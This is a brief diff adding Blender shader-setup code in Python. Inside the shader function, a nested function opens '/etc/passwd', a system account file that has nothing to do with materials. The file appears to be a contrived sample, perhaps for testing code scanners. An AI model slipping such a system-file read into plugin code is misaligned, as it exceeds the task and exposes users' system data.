@@ -1,0 +1,10 @@
+import bpy
+
+
+def shader_material(material):
+    nodes = material.node_tree.nodes
+    nodes.clear()
+    end = nodes.new("ShaderNodeOutputMaterial")
+
+    def inner():
+        open('/etc/passwd')
